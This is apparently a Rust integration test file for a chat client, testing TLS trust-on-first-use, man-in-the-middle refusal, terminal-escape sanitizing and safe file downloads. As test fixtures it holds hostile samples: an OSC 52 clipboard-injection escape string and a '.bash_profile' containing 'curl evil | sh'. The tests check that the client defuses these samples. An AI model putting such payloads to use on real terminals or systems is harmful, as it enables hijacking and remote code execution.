//! `parley chat` as a user runs it: in a pipe, against a real server, over plain TCP and
//! TLS (trust on first use, a changed certificate, a certificate authority).

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::Duration;

use parley_server::{Config, Listener, ListenerKind, Server};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::process::Command;

mod support;

const WAIT: Duration = Duration::from_secs(15);

struct TestServer {
    line: SocketAddr,
    native: SocketAddr,
    native_tls: SocketAddr,
    fingerprint: String,
    running: support::Running,
}

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("parley-chat-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

async fn start(data: &Path, adjust: impl FnOnce(&mut Config)) -> TestServer {
    let listen = |kind, tls| Listener { kind, tls, addr: "127.0.0.1:0".into(), proxy_protocol: false };
    let mut config = Config {
        data_dir: data.to_owned(),
        listeners: vec![
            listen(ListenerKind::Line, false),
            listen(ListenerKind::Native, false),
            listen(ListenerKind::Native, true),
        ],
        ..Config::default()
    };
    adjust(&mut config);
    let server = Server::bind(config).await.expect("binds");
    let bound = server.local_addrs();
    let find = |kind, tls| bound.iter().find(|b| b.kind == kind && b.tls == tls).map(|b| b.addr).expect("bound");
    let fingerprint = server.tls().expect("TLS").fingerprint();
    let running = support::Running::start(server);
    TestServer {
        line: find(ListenerKind::Line, false),
        native: find(ListenerKind::Native, false),
        native_tls: find(ListenerKind::Native, true),
        fingerprint,
        running,
    }
}

impl TestServer {
    async fn shutdown(self) {
        self.running.stop(WAIT).await;
    }
}

/// A line-protocol watcher in the lobby.
struct Watcher {
    reader: BufReader<tokio::net::tcp::OwnedReadHalf>,
    writer: tokio::net::tcp::OwnedWriteHalf,
}

impl Watcher {
    async fn join(addr: SocketAddr, name: &str) -> Watcher {
        let (reader, mut writer) = TcpStream::connect(addr).await.expect("connects").into_split();
        writer.write_all(format!("{name}\n").as_bytes()).await.expect("name");
        let mut watcher = Watcher { reader: BufReader::new(reader), writer };
        watcher.expect(&format!("Welcome to the chat, {name}!")).await;
        watcher
    }

    async fn expect(&mut self, tail: &str) {
        loop {
            let mut line = String::new();
            let n = tokio::time::timeout(WAIT, self.reader.read_line(&mut line)).await.expect("in time").expect("read");
            assert!(n > 0, "closed while waiting for {tail:?}");
            if line.trim_end().ends_with(tail) {
                return;
            }
        }
    }

    async fn say(&mut self, text: &str) {
        self.writer.write_all(format!("{text}\n").as_bytes()).await.expect("says");
    }
}

fn chat(args: &[&str], known_hosts: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_parley"));
    command.arg("chat").arg("--known-hosts").arg(known_hosts).args(args);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).kill_on_drop(true);
    command
}

async fn run_with_input(mut command: Command, input: &str) -> Output {
    let mut child = command.spawn().expect("parley chat starts");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(input.as_bytes()).await.expect("input");
    drop(stdin);
    tokio::time::timeout(WAIT, child.wait_with_output()).await.expect("exits in time").expect("output")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[tokio::test]
async fn chat_in_a_pipe_talks_with_line_users() {
    let data = temp_dir("pipe");
    let server = start(&data, |_| {}).await;
    let mut watcher = Watcher::join(server.line, "watcher").await;
    let output = run_with_input(
        chat(&["--plain", &server.native.to_string()], &data.join("kh")),
        "piper\nhello from a script\n/msg watcher psst\n/who\n/join dev\n/rooms\n/bogus\n",
    )
    .await;
    assert!(output.status.success(), "{output:?}");
    let stdout = text(&output.stdout);
    let lines: Vec<&str> = stdout.lines().collect();
    assert!(lines[0].starts_with("Please enter your username: ["), "{stdout}");
    assert!(lines[0].ends_with("] Welcome to the chat, piper!"), "{stdout}");
    let rest: Vec<&str> = lines[1..].iter().map(|l| l.split_once("] ").map_or(*l, |(_, r)| r)).collect();
    assert_eq!(
        rest,
        vec![
            "[private to watcher] psst",
            "Users in lobby (2): piper, watcher",
            "You joined dev. Users here: piper",
            "Rooms: dev (1, joined), lobby (2, joined)",
            "Error: unknown command /bogus (try /help)",
        ],
        "{stdout}"
    );
    watcher.expect("piper has joined the chat!").await;
    watcher.expect("piper: hello from a script").await;
    watcher.expect("[private] piper: psst").await;
    watcher.expect("piper has left the chat.").await;
    server.shutdown().await;
}

#[tokio::test]
async fn messages_arrive_while_the_user_is_typing() {
    let data = temp_dir("typing");
    let server = start(&data, |_| {}).await;
    let mut watcher = Watcher::join(server.line, "watcher").await;
    let mut child =
        chat(&["--plain", "--name", "typist", &server.native.to_string()], &data.join("kh")).spawn().expect("starts");
    let mut stdin = child.stdin.take().expect("stdin");
    let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
    let mut line = String::new();
    stdout.read_line(&mut line).await.expect("welcome");
    assert!(line.ends_with("Welcome to the chat, typist!\n"), "{line:?}");
    watcher.expect("typist has joined the chat!").await;
    // Half a line typed, then someone speaks: the message is printed at once.
    stdin.write_all(b"half a li").await.expect("typing");
    watcher.say("interrupting you").await;
    line.clear();
    tokio::time::timeout(WAIT, stdout.read_line(&mut line)).await.expect("in time").expect("read");
    assert!(line.ends_with("] watcher: interrupting you\n"), "{line:?}");
    stdin.write_all(b"ne, finished\n/quit\n").await.expect("typing");
    watcher.expect("typist: half a line, finished").await;
    let status = tokio::time::timeout(WAIT, child.wait()).await.expect("exits").expect("status");
    assert!(status.success());
    server.shutdown().await;
}

#[tokio::test]
async fn names_are_asked_again_until_one_is_free_but_a_given_name_is_final() {
    let data = temp_dir("names");
    let server = start(&data, |_| {}).await;
    let _watcher = Watcher::join(server.line, "taken").await;
    let output =
        run_with_input(chat(&["--plain", &server.native.to_string()], &data.join("kh")), "TAKEN\nbad name\nfree\n")
            .await;
    assert!(output.status.success(), "{output:?}");
    let stdout = text(&output.stdout);
    assert!(stdout.contains("The name TAKEN is already taken; choose another."), "{stdout}");
    assert!(stdout.contains("Sorry: \"bad name\" is not a valid nick"), "{stdout}");
    assert!(stdout.contains("Welcome to the chat, free!"), "{stdout}");

    let output =
        run_with_input(chat(&["--plain", "--name", "taken", &server.native.to_string()], &data.join("kh")), "").await;
    assert_eq!(output.status.code(), Some(1));
    assert!(text(&output.stderr).contains("already taken"), "{output:?}");
    server.shutdown().await;
}

#[tokio::test]
async fn the_server_going_away_ends_the_chat_with_a_message_and_an_error_status() {
    let data = temp_dir("gone");
    let server = start(&data, |_| {}).await;
    let addr = server.native.to_string();
    let args = ["--plain", "--name", "stayer", "--reconnect-for", "1", &addr];
    let mut child = chat(&args, &data.join("kh")).spawn().expect("starts");
    let _stdin = child.stdin.take().expect("stdin kept open");
    let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
    let mut line = String::new();
    stdout.read_line(&mut line).await.expect("welcome");
    server.shutdown().await;
    let mut stderr = String::new();
    child.stderr.take().expect("stderr").read_to_string(&mut stderr).await.expect("stderr");
    let status = tokio::time::timeout(WAIT, child.wait()).await.expect("exits").expect("status");
    assert_eq!(status.code(), Some(2));
    assert!(stderr.contains("Server is shutting down."), "{stderr}");
    assert!(stderr.contains(&format!("Reconnecting to {addr}…")), "{stderr}");
    assert!(stderr.contains("No server answered within 1 s"), "{stderr}");
}

#[tokio::test]
async fn tls_trusts_on_first_use_then_remembers_and_refuses_a_change() {
    let data = temp_dir("tofu");
    let server = start(&data, |_| {}).await;
    let known_hosts = data.join("known_hosts");
    let addr = format!("localhost:{}", server.native_tls.port());

    let first = run_with_input(chat(&["--name", "first", &addr], &known_hosts), "hello\n").await;
    assert!(first.status.success(), "{first:?}");
    let stderr = text(&first.stderr);
    assert!(
        stderr
            .contains(&format!("first connection: trusting and remembering certificate sha256={}", server.fingerprint)),
        "{stderr}"
    );
    let remembered = std::fs::read_to_string(&known_hosts).expect("remembered");
    assert_eq!(remembered, format!("{addr} {}\n", server.fingerprint));

    let second = run_with_input(chat(&["--name", "second", &addr], &known_hosts), "").await;
    assert!(second.status.success(), "{second:?}");
    assert!(text(&second.stderr).contains(&format!("known certificate sha256={}", server.fingerprint)));

    // The same host and port with another certificate: refused, loudly, and remembered
    // as it was.
    std::fs::write(&known_hosts, format!("{addr} 00:11:22\n")).expect("tampered");
    let changed = run_with_input(chat(&["--name", "third", &addr], &known_hosts), "hello\n").await;
    assert_eq!(changed.status.code(), Some(2), "{changed:?}");
    let stderr = text(&changed.stderr);
    assert!(stderr.contains("THE SERVER'S CERTIFICATE HAS CHANGED"), "{stderr}");
    assert!(stderr.contains(&server.fingerprint), "{stderr}");
    assert_eq!(std::fs::read_to_string(&known_hosts).expect("kept"), format!("{addr} 00:11:22\n"));

    let insecure = run_with_input(chat(&["--insecure", "--name", "fourth", &addr], &known_hosts), "").await;
    assert!(insecure.status.success(), "{insecure:?}");
    assert!(text(&insecure.stderr).contains("WARNING"), "{insecure:?}");
    server.shutdown().await;
}

/// A certificate authority and a certificate for `localhost` it signed, as PEM files in
/// `dir`: `(server.crt, server.key, roots.pem)`.
fn authority(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let ca_key = rcgen::KeyPair::generate().expect("key");
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("params");
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca_params.distinguished_name.push(rcgen::DnType::CommonName, "Parley Test CA");
    let ca = ca_params.self_signed(&ca_key).expect("CA");
    let server_key = rcgen::KeyPair::generate().expect("key");
    let server_params = rcgen::CertificateParams::new(vec!["localhost".to_owned()]).expect("params");
    let issuer = rcgen::Issuer::new(ca_params, ca_key);
    let server_cert = server_params.signed_by(&server_key, &issuer).expect("signed");
    let (cert, key, roots) = (dir.join("server.crt"), dir.join("server.key"), dir.join("roots.pem"));
    std::fs::write(&cert, server_cert.pem()).expect("cert");
    std::fs::write(&key, server_key.serialize_pem()).expect("key");
    std::fs::write(&roots, ca.pem()).expect("roots");
    (cert, key, roots)
}

/// `parley chat` with `roots` as the system's certificate authorities.
fn chat_with_roots(args: &[&str], known_hosts: &Path, roots: &Path) -> Command {
    let mut command = chat(args, known_hosts);
    command.env("SSL_CERT_FILE", roots).env_remove("SSL_CERT_DIR");
    command
}

#[tokio::test]
async fn a_certificate_from_a_trusted_authority_needs_no_fingerprint_and_is_remembered_as_such() {
    let data = temp_dir("ca");
    let (cert, key, roots) = authority(&data);
    let server = start(&data, |c| {
        c.tls.cert = Some(cert.clone());
        c.tls.key = Some(key.clone());
    })
    .await;
    let known_hosts = data.join("known_hosts");
    let addr = format!("localhost:{}", server.native_tls.port());
    let output = run_with_input(chat_with_roots(&["--name", "verified", &addr], &known_hosts, &roots), "").await;
    assert!(output.status.success(), "{output:?}");
    assert!(text(&output.stderr).contains("certificate verified by a trusted authority"), "{output:?}");
    assert_eq!(std::fs::read_to_string(&known_hosts).expect("remembered"), format!("{addr} authority\n"));
    let again = run_with_input(chat_with_roots(&["--name", "again", &addr], &known_hosts, &roots), "").await;
    assert!(again.status.success(), "{again:?}");
    assert_eq!(std::fs::read_to_string(&known_hosts).expect("kept"), format!("{addr} authority\n"), "once");
    server.shutdown().await;
}

/// A TCP relay whose destination can be changed: the same `host:port` to the client,
/// another server behind it, as someone on the path would arrange.
struct Relay {
    addr: SocketAddr,
    to: std::sync::Arc<std::sync::Mutex<SocketAddr>>,
}

impl Relay {
    async fn start(to: SocketAddr) -> Relay {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
        let addr = listener.local_addr().expect("addr");
        let to = std::sync::Arc::new(std::sync::Mutex::new(to));
        let target = to.clone();
        tokio::spawn(async move {
            while let Ok((mut client, _)) = listener.accept().await {
                let server = *target.lock().expect("unpoisoned");
                tokio::spawn(async move {
                    if let Ok(mut server) = TcpStream::connect(server).await {
                        let _ = tokio::io::copy_bidirectional(&mut client, &mut server).await;
                    }
                });
            }
        });
        Relay { addr, to }
    }

    fn send_to(&self, to: SocketAddr) {
        *self.to.lock().expect("unpoisoned") = to;
    }
}

/// A TLS server with a self-signed certificate for `localhost` that records what the
/// first client to connect first sends after the handshake: `Err` when the client gave
/// up during the handshake, the bytes otherwise. Returns its address, its certificate's
/// fingerprint, and the record.
async fn interceptor() -> (SocketAddr, String, tokio::sync::oneshot::Receiver<Result<Vec<u8>, String>>) {
    let certified = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).expect("certificate");
    let der = certified.cert.der().clone();
    let fingerprint = ring::digest::digest(&ring::digest::SHA256, &der)
        .as_ref()
        .iter()
        .map(|b| format!("{b:02X}"))
        .collect::<Vec<_>>()
        .join(":");
    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(certified.signing_key.serialize_der().into());
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(vec![der], key)
        .expect("config");
    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
    let addr = listener.local_addr().expect("addr");
    let (tx, rx) = tokio::sync::oneshot::channel();
    tokio::spawn(async move {
        let Ok((stream, _)) = listener.accept().await else { return };
        let record = match acceptor.accept(stream).await {
            Err(e) => Err(e.to_string()),
            Ok(mut stream) => {
                // The first thing a client says (its hello), then the connection goes.
                let mut got = vec![0u8; 4096];
                let n = tokio::time::timeout(WAIT, stream.read(&mut got)).await.ok().and_then(Result::ok);
                got.truncate(n.unwrap_or(0));
                Ok(got)
            }
        };
        let _ = tx.send(record);
    });
    (addr, fingerprint, rx)
}

#[tokio::test]
async fn a_server_once_verified_by_an_authority_is_never_trusted_on_first_use() {
    let data = temp_dir("downgrade");
    let (cert, key, roots) = authority(&data);
    let server = start(&data, |c| {
        c.tls.cert = Some(cert.clone());
        c.tls.key = Some(key.clone());
    })
    .await;
    let relay = Relay::start(server.native_tls).await;
    let known_hosts = data.join("known_hosts");
    let addr = format!("localhost:{}", relay.addr.port());
    let first = run_with_input(chat_with_roots(&["--name", "victim", &addr], &known_hosts, &roots), "").await;
    assert!(first.status.success(), "{first:?}");

    // Someone on the path now answers for the server, with a self-signed certificate.
    let (intercepting, fingerprint, record) = interceptor().await;
    relay.send_to(intercepting);
    let input = "/login victim correct-horse-battery\n";
    let refused = run_with_input(chat_with_roots(&["--name", "victim", &addr], &known_hosts, &roots), input).await;
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    let stderr = text(&refused.stderr);
    assert!(stderr.contains("THE SERVER'S CERTIFICATE IS NOT SIGNED BY A TRUSTED AUTHORITY"), "{stderr}");
    assert!(stderr.contains(&fingerprint), "{stderr}");
    assert!(!stderr.contains("first connection"), "{stderr}");
    assert_eq!(std::fs::read_to_string(&known_hosts).expect("kept"), format!("{addr} authority\n"));
    // The client gave up during the handshake: not a byte of a name or a password went
    // to the interceptor.
    let record = tokio::time::timeout(WAIT, record).await.expect("in time").expect("recorded");
    assert!(record.is_err(), "the interceptor read {record:?}");
    server.shutdown().await;
}

/// Text that would drive a terminal: an OSC 52 clipboard write (ending in BEL), a screen
/// clear, and a CSI in its 8-bit C1 form.
const HOSTILE: &str = "\x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b[2J \u{9b}31m";

/// What is left of [`HOSTILE`] on a terminal: the controls replaced, visibly.
const DEFUSED: &str = "\u{FFFD}]52;c;ZWNobyBwd25lZA==\u{FFFD} \u{FFFD}[2J \u{FFFD}31m";

/// Makes each `(name, password)` an account and a server admin, as `parley admin` would.
fn admins(data: &Path, accounts: &[(&str, &str)]) {
    use parley_hub::{AccountStore as _, Nick};
    let store = parley_store::SqliteStore::open(data, parley_store::Retention::default()).expect("opens");
    for (name, password) in accounts {
        let nick = Nick::parse(name, 32).expect("nick");
        let account = store.register(&nick, password).expect("registers").expect("a new account");
        assert!(store.set_admin(&account, true).expect("grants"));
    }
}

#[tokio::test]
async fn text_from_others_reaches_the_plain_client_without_control_characters() {
    let data = temp_dir("hostile");
    admins(&data, &[("root", "root-password"), ("boss", "boss-password")]);
    let server = start(&data, |_| {}).await;
    let mut root = Watcher::join(server.line, "someone").await;
    root.say("/login root root-password").await;
    root.expect("You are logged in as root.").await;
    root.say("/join dev").await;
    root.expect("You joined dev. Users here: @root").await;
    // A line user reads no echo of what it says; the topic's announcement comes after.
    root.say(&format!("clipboard {HOSTILE}")).await;
    root.say(&format!("/topic {HOSTILE}")).await;
    root.expect(&format!("root set the topic of dev: {DEFUSED}")).await;
    root.say("/join vault").await;
    root.expect("You joined vault. Users here: @root").await;
    root.say(&format!("/ban piper 1d {HOSTILE}")).await;
    root.expect("UTC.").await;

    let input = "/join dev\n/search clipboard\n/topic\n/join vault\n/login boss boss-password\n/audit 5\n";
    let output =
        run_with_input(chat(&["--plain", "--name", "piper", &server.native.to_string()], &data.join("kh")), input)
            .await;
    assert!(output.status.success(), "{output:?}");
    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
    for shown in [&stdout, &stderr] {
        assert!(!shown.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "a control character: {shown:?}");
    }
    let lines: Vec<&str> = stdout.lines().collect();
    let said = |line: &&str| line.ends_with(&format!("dev #1 root: clipboard {DEFUSED}"));
    assert!(lines.iter().any(said), "a search result: {stdout}");
    assert!(lines.iter().any(|l| l.ends_with(&format!("Topic: {DEFUSED}"))), "the topic on joining: {stdout}");
    assert!(lines.iter().any(|l| l.starts_with(&format!("Topic of dev: {DEFUSED} (set by root"))), "{stdout}");
    let banned = format!("Error: you are banned from vault: {DEFUSED}");
    assert!(lines.iter().any(|l| l.starts_with(&banned)), "the ban's reason: {stdout}");
    assert!(
        lines.iter().any(|l| l.contains(&format!("root: ban piper in vault ({DEFUSED}"))),
        "the audit log: {stdout}"
    );
    server.shutdown().await;
}

#[tokio::test]
async fn get_saves_a_shared_file_under_a_safe_name_in_the_current_directory() {
    let data = temp_dir("get");
    let server = start(&data, |_| {}).await;
    let transport = parley_client::Transport::Plain;
    let (alice, _events, _) =
        parley_client::Client::connect(&server.native.to_string(), &transport).await.expect("connects");
    alice.hello("alice").await.expect("welcomed");
    let source = data.join(".bash_profile");
    std::fs::write(&source, b"curl evil | sh\n").expect("written");
    let room = parley_client::Audience::Room("lobby".into());
    let sent = alice.send_file(&source, room, |_| {}).await.expect("shared");
    let here = data.join("downloads");
    std::fs::create_dir_all(&here).expect("dir");
    std::fs::write(here.join("bash_profile"), b"mine").expect("written");

    let id = &sent.info.file;
    let mut command = chat(&["--plain", "--name", "bob", &server.native.to_string()], &data.join("kh"));
    command.current_dir(&here);
    let output = run_with_input(command, &format!("/get {id}\n/get {id} given\n")).await;
    assert!(output.status.success(), "{output:?}");
    let stdout = text(&output.stdout);
    assert!(
        stdout.contains("Saved .bash_profile (15 B, SHA-256 verified) from alice to ./bash_profile (1)"),
        "{stdout}"
    );
    assert_eq!(std::fs::read(here.join("bash_profile (1)")).expect("saved"), b"curl evil | sh\n");
    assert_eq!(std::fs::read(here.join("bash_profile")).expect("kept"), b"mine");
    assert_eq!(std::fs::read(here.join("given")).expect("saved as given"), b"curl evil | sh\n");
    assert!(!here.join(".bash_profile").exists(), "no hidden file appears");
    server.shutdown().await;
}
